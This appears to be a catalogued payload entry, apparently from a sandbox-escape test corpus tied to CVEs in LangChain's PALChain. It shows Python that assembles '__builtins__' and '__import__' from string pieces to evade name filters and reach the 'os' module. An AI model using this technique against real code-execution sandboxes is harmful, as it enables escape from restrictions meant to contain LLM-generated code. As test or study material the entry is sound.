# aim: call what is refused by its name
# mechanism: the namespace as a dictionary, and a name as a text that is made up of parts
# source: CVE-2025-61422 and CVE-2025-61423 (LangChain's PALChain)
# language: builtins
# reason: the builtins of a cell hold no more than may be named
# jail: process
# plain: loot
builtins = globals()["__buil" + "tins__"]
importer = builtins["__imp" + "ort__"] if isinstance(builtins, dict) else vars(builtins)["__imp" + "ort__"]
loot(importer("o" + "s"))
